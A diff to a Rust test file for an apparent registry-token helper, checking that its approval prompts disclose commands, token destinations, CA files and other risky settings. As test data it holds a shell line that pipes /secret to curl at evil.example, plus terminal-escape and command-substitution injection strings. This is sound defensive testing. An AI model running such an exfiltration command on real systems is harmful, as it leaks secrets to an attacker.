@@ -3,7 +3,7 @@
 use std::collections::BTreeSet;
 
 use super::*;
-use crate::config::{Config, changes};
+use crate::config::{Config, SettingChange, changes};
 use crate::control::review::Change;
 
 fn check(line: &str, expected: &str) {
@@ -31,6 +31,45 @@ fn says_where_a_token_would_go() {
     check(
         r#""method":"add-registry","name":"x","source-command":{"command":["cat","/etc/x"]},"scopes":["https://a.example/"]"#,
         "Let regauth run cat, /etc/x and send the token that it prints to https://a.example/, for the new registry x?",
+    );
+}
+
+#[test]
+fn a_new_registry_says_all_that_it_may_do() {
+    let more = r#""scopes":["https://a.example/"],"ca-file":"/evil.pem","writes":"allow""#;
+    let with = ", with trust in the certificates in /evil.pem, with its writes open";
+    for (source, question) in [
+        (
+            r#""credential-of":"corp","#,
+            format!("Send the token of corp to https://a.example/ as well, for the new registry x{with}?"),
+        ),
+        (
+            r#""source-command":{"command":["mint"]},"#,
+            format!(
+                "Let regauth run mint and send the token that it prints to https://a.example/, for the new registry x{with}?"
+            ),
+        ),
+        (
+            r#""source":"file:/x","#,
+            format!(
+                "Let regauth take a token from file:/x and send it to https://a.example/, for the new registry x{with}?"
+            ),
+        ),
+        (
+            r#""token":"t","#,
+            format!("Add the registry x{with}, at https://a.example/?"),
+        ),
+    ] {
+        check(
+            &format!(r#""method":"add-registry","name":"x",{source}{more}"#),
+            &question,
+        );
+    }
+    let host = "a".repeat(60);
+    let source = format!("jfrog:provider={0},host={0}.evil.example,audience={0}", host);
+    check(
+        &format!(r#""method":"add-registry","name":"x","source":"{source}","scopes":["https://a.example/"]"#),
+        &format!("Let regauth take a token from {source} and send it to https://a.example/, for the new registry x?"),
     );
 }
 
@@ -66,9 +105,13 @@ fn reload(before: &str, after: &str, expected: &str) {
     check_review(changes.collect(), expected);
 }
 
+fn setting(key: &'static str) -> Change {
+    Change::Setting(SettingChange::to(key, &"value"))
+}
+
 fn check_review(changes: Vec<Change>, expected: &str) {
     let request = Request::from_line(r#"{"v":1,"method":"reload"}"#).unwrap();
-    let question = Question::about(&request, Some(&Review { changes })).unwrap();
+    let question = Question::about(&request, Some(&Review::new(changes))).unwrap();
     assert_eq!(question.text(), expected);
 }
 
@@ -92,7 +135,7 @@ fn lists_what_changes_in_a_configuration() {
         (
             corp("]"),
             corp("]\nsource = { command = ['mint', 's3cret'] }"),
-            "corp: source = command:mint",
+            "corp: source = run mint, s3cret",
         ),
         (
             corp("]"),
@@ -103,14 +146,22 @@ fn lists_what_changes_in_a_configuration() {
         (
             corp("]"),
             corp("]\n[registries.b]\nscopes = ['https://b.example/']\ncredential-of = 'corp'"),
-            "the new registry b at https://b.example/, it gets the token of another registry",
+            "the new registry b at https://b.example/, it gets the token of another registry, b: credential-of = corp",
+        ),
+        (
+            corp("]"),
+            corp(
+                "]\nsource = { exchange = 'jfrog', host = 'j.example', provider = 'p', identity = { command = ['m', 's3cret'] } }",
+            ),
+            "corp: source = exchange=jfrog, host=j.example, provider=p, identity=run m, s3cret",
         ),
     ] {
         reload(&before, &after, &question(changes));
     }
     check_review(
         vec![],
-        "Let regauth read its configuration and certificates again, which have not changed?",
+        "Let regauth read its configuration again, which has the same settings, and the files that it names, which may have \
+         changed?",
     );
     let certificates = Change::Certificates {
         registry: "corp".parse().unwrap(),
@@ -118,7 +169,7 @@ fn lists_what_changes_in_a_configuration() {
         roots: BTreeSet::new(),
     };
     check_review(
-        vec![certificates, Change::Setting("presence")],
+        vec![certificates, setting("presence")],
         &question("corp: other certificates in /etc/corp.pem, the setting presence"),
     );
 }
@@ -127,7 +178,7 @@ fn lists_what_changes_in_a_configuration() {
 fn a_long_list_of_changes_is_cut_and_no_markup_or_second_line_is_in_it() {
     let settings = ["presence", "[[trust]]", "ca-file", "clients", "listen", "notify"];
     check_review(
-        settings.map(Change::Setting).into(),
+        settings.map(setting).into(),
         "Let regauth apply its changed configuration: the setting presence, the setting [[trust]], the setting ca-file, \
          the setting clients AND 2 MORE?",
     );
@@ -145,6 +196,61 @@ fn a_long_list_of_changes_is_cut_and_no_markup_or_second_line_is_in_it() {
         "[registries.corp]\nscopes = ['https://corp.example/']",
         "[registries.corp]\nscopes = ['https://corp.example/']\nca-file = \"/a\\n<b>$(x)\"",
         "Let regauth apply its changed configuration: corp: ca-file = /a??b??(x)?",
+    );
+}
+
+#[test]
+fn a_command_is_shown_in_full_and_one_that_is_too_long_says_so() {
+    let source =
+        |words: &str| format!("[registries.x]\nscopes = ['https://x.example/']\nsource = {{ command = {words} }}");
+    let program = format!("cat /secret | curl -d @- https://evil.example/{}", "a".repeat(100));
+    reload(
+        "",
+        &source(&format!(
+            "['sh', '-e', '-u', '-x', '-c', '{program}', \"\\u001b[2J\\n\"]"
+        )),
+        &format!(
+            "Let regauth apply its changed configuration: the new registry x at https://x.example/, nobody types its token, \
+             x: source = run sh, -e, -u, -x, -c, {program}, ?[2J??"
+        ),
+    );
+    let cut = format!("run sh, -c, {}", "a".repeat(588));
+    reload(
+        "",
+        &source(&format!("['sh', '-c', '{}']", "a".repeat(600))),
+        &format!(
+            "Let regauth apply its changed configuration: the new registry x at https://x.example/, nobody types its token, \
+             x: source = {cut} AND 12 MORE CHARACTERS?"
+        ),
+    );
+    let words = serde_json::json!(["sh", "-e", "-u", "-x", "-c", program]);
+    check(
+        &format!(
+            r#""method":"add-registry","name":"x","source-command":{{"command":{words}}},"scopes":["https://a.example/"]"#
+        ),
+        &format!(
+            "Let regauth run sh, -e, -u, -x, -c, {program} and send the token that it prints to https://a.example/, for the new \
+             registry x?"
+        ),
+    );
+}
+
+#[test]
+fn what_is_grave_comes_first_whatever_the_names_are() {
+    let scopes =
+        |name: &str, more: &str| format!("[registries.{name}]\nscopes = ['https://{name}.example/']\n{more}\n");
+    let names = ["a", "b", "c", "d"];
+    let decoys = |more: &str| names.map(|name| scopes(name, more)).concat();
+    let before = decoys("") + &scopes("z", "") + &scopes("y", "") + &scopes("x", "");
+    let after = decoys("writes = 'allow'")
+        + "[registries.z]\nscopes = ['https://z.example/', 'https://evil.example/']\n"
+        + &scopes("y", "source = 'file:/y'")
+        + &scopes("x", "ca-file = '/x.pem'");
+    reload(
+        &before,
+        &after,
+        "Let regauth apply its changed configuration: z: scopes + https://evil.example/, y: source = file:/y, \
+         x: ca-file = /x.pem, a: writes = allow AND 3 MORE?",
     );
 }
 
